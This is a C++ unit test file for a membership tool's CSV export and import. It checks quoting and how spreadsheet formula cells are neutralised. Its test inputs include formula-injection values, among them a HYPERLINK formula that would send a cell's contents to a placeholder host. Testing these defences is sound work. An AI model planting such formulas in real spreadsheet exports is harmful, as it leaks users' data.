#include "client/cli/export_csv.h"

#include <string>
#include <vector>

#include "client/cli/import_plan.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace pacto::cli {
namespace {

v1::ExportRow Row(std::string chapter, std::string name, std::string national_id,
                  std::string birth_date, std::string since, std::string membership_id,
                  std::string status = "active") {
  v1::ExportRow row;
  row.set_chapter(std::move(chapter));
  row.set_name(std::move(name));
  row.set_national_id(std::move(national_id));
  row.set_birth_date(std::move(birth_date));
  row.set_since(std::move(since));
  row.set_membership_id(std::move(membership_id));
  row.set_status(std::move(status));
  return row;
}

TEST(ExportCsvTest, HeaderAndQuotedRows) {
  EXPECT_EQ(ExportCsvHeader(), "chapter,name,national_id,birth_date,since,membership_id,status\n");
  v1::ExportMembersResponse chunk;
  *chunk.add_rows() = Row("ch-1", "Mamani, Juana", "123", "1990-01-02", "2020-05-01", "mb-1");
  *chunk.add_rows() = Row("ch-1", "Juan \"Tata\" Quispe", "", "", "2021-01-01", "mb-2", "ended");
  EXPECT_EQ(ExportCsvRows(chunk),
            "ch-1,\"Mamani, Juana\",123,1990-01-02,2020-05-01,mb-1,active\n"
            "ch-1,\"Juan \"\"Tata\"\" Quispe\",,,2021-01-01,mb-2,ended\n");
  EXPECT_EQ(ExportCsvRows(v1::ExportMembersResponse()), "");
}

// What `member export` writes, `member import` reads back: every row, every value.
// A name that a spreadsheet would run as a formula reaches the file neutralised.
TEST(ExportCsvTest, FormulaCellsAreNeutralised) {
  v1::ExportMembersResponse chunk;
  *chunk.add_rows() = Row("ch-1", "=1+1", "", "", "2020-05-01", "mb-1");
  *chunk.add_rows() = Row("ch-1", "@cmd", "", "", "2020-05-01", "mb-2");
  EXPECT_EQ(ExportCsvRows(chunk),
            "ch-1,\"'=1+1\",,,2020-05-01,mb-1,active\n"
            "ch-1,\"'@cmd\",,,2020-05-01,mb-2,active\n");
}

TEST(ExportCsvTest, ImportPlanReadsAnExportedFileBackIntact) {
  std::vector<v1::ExportRow> rows = {
      Row("ch-1", "Juana Azurduy", "1234567", "1780-07-12", "2020-01-01", "mb-1"),
      Row("ch-1", "Mamani, Juana", "", "1990-01-02", "2020-05-01", "mb-2"),
      Row("ch-2", "Juan \"Tata\" Quispe", "LP-77", "", "", "mb-3"),
      Row("ch-2", "Ñusta Qhispi Chuqi Ñawpa", "8", "2001-12-31", "2024-02-29", "mb-4"),
      Row("ch-3", "María José Choque Añez", "9", "1999-09-09", "2019-03-08", "mb-5", "ended"),
      Row("ch-3", " leading and trailing spaces ", "10", "", "", "mb-6"),
      Row("ch-3", "Two\nlines", "11", "", "", "mb-7"),
      Row("ch-3", "\"", "", "", "", "mb-8"),
      Row("ch-4", "Tupac Katari, \"Julián Apaza\", 1750–1781", "12", "", "", "mb-9"),
      // Cells a spreadsheet would run: written neutralised, read back as they were.
      Row("ch-5", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "13", "", "", "mb-10"),
      Row("ch-5", "+1", "-14", "", "", "mb-11"),
      Row("ch-5", "-Ana", "15", "", "", "mb-12"),
      Row("ch-5", "@SUM(A1)", "16", "", "", "mb-13"),
      Row("ch-5", "\tAna", "17", "", "", "mb-14"),
      Row("ch-5", "\rAna", "18", "", "", "mb-15"),
      Row("ch-5", "'=1+1", "19", "", "", "mb-16"),
      Row("ch-5", "'quoted", "20", "", "", "mb-17"),
  };
  // Rows arrive in chunks; the file is the header and each chunk's lines in order.
  std::string file = ExportCsvHeader();
  for (size_t start = 0; start < rows.size(); start += 4) {
    v1::ExportMembersResponse chunk;
    for (size_t i = start; i < std::min(rows.size(), start + 4); ++i) *chunk.add_rows() = rows[i];
    file += ExportCsvRows(chunk);
  }

  absl::StatusOr<ImportPlan> plan = PlanImport(file);
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_THAT(plan->rejects, testing::IsEmpty());
  ASSERT_EQ(plan->rows.size(), rows.size());
  for (size_t i = 0; i < rows.size(); ++i) {
    const v1::ImportRow& got = plan->rows[i];
    EXPECT_EQ(got.chapter(), rows[i].chapter()) << i;
    EXPECT_EQ(got.name(), rows[i].name()) << i;
    EXPECT_EQ(got.national_id(), rows[i].national_id()) << i;
    EXPECT_EQ(got.birth_date(), rows[i].birth_date()) << i;
    EXPECT_EQ(got.since(), rows[i].since()) << i;
    EXPECT_EQ(got.membership_id(), rows[i].membership_id()) << i;
  }
  // Lines as an editor shows them: the header is 1, and the two-line name takes two.
  EXPECT_EQ(plan->rows[0].line(), 2u);
  EXPECT_EQ(plan->rows[6].line(), 8u);
  EXPECT_EQ(plan->rows[7].line(), 10u);
}

}  // namespace
}  // namespace pacto::cli
